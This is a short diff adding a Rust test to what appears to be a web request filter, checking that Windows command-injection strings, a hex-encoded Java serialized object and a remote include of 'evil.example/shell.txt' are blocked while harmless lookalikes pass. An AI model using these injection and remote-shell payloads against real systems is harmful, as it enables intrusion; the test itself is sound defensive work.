@@ -1245,3 +1245,29 @@ fn gated_alternatives_are_reachable() {
         ],
     );
 }
+
+#[test]
+fn windows_separators_and_hex_objects_are_blocked() {
+    assert_all_blocked(
+        "windows",
+        &[
+            "x & reg query HKLM\\SOFTWARE",
+            "x & start calc",
+            "x | dir c:\\",
+            "x && ver",
+            "aced0005737200116a6176612e7574696c2e486173684d6170",
+        ],
+    );
+    assert!(blocked(
+        &request("/s?template=//evil.example/shell.txt"),
+        ""
+    ));
+    assert_all_pass(
+        "windows lookalikes",
+        &[
+            "ready, set & start the engine",
+            "version 2 & ver 3",
+            "dir listing",
+        ],
+    );
+}
